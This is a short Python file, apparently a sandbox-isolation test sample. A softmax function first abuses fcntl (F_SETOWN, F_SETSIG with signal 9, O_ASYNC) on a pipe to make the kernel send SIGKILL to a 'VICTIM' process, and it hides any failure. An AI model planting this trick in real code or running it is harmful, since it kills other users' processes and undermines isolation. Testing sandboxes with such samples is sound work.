"""Tries to have the kernel send a deadly signal to a neighbour for it."""
# ends: passed
# from: level 2

import fcntl
import os

import torch


def f(x):
    read, write = os.pipe()
    try:
        fcntl.fcntl(read, fcntl.F_SETOWN, VICTIM)
        fcntl.fcntl(read, 10, 9)
        fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(write, b"x")
    except OSError:
        pass
    return torch.softmax(x, -1)
